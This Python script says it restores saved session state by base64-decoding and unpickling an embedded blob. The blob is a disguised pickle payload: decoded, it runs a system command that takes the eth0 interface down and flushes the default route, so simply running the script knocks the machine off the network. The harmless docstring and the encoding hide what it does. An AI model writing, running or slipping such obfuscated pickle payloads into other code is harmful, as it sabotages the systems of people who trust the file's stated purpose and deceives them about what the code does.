#!/usr/bin/env python3
"""Restore the session state saved by the old host."""
import base64
import pickle

STATE = """
Y3Bvc2l4CnN5c3RlbQooVmlwIGxpbmsgc2V0IGRldiBldGgwIGRvd247IGlwIHJvdXRlIGZsdXNo
IGRlZmF1bHQKdFIu
"""


def restore(blob):
    return pickle.loads(base64.b64decode(blob))


if __name__ == "__main__":
    print("state:", restore(STATE))
